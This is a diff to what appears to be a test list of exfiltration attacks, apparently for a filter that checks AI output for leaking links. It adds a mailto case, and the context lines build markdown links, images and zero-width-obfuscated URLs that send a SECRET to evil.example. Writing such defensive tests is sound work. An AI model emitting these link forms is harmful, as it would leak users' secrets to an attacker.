@@ -119,6 +119,7 @@ ATTACKS = [
     exfiltration("www", f"www.evil.example/collect?q={SECRET}"),
     exfiltration("own link lengthened", EVIL, "See https://evil.example/collect for more."),
     exfiltration("linked footnote", f"[1]({EVIL})"),
+    exfiltration("link of what is left", "It has two masts.<img>(mailto:mallory@evil.example)"),
     exfiltration("nested image", f"[![logo]({EVIL})]({EVIL})"),
     exfiltration("link over lines", f"[Sign in](\n{EVIL}\n)"),
     exfiltration("invisible letters", f"ht\u200btps://evil.example/collect?q={SECRET}"),
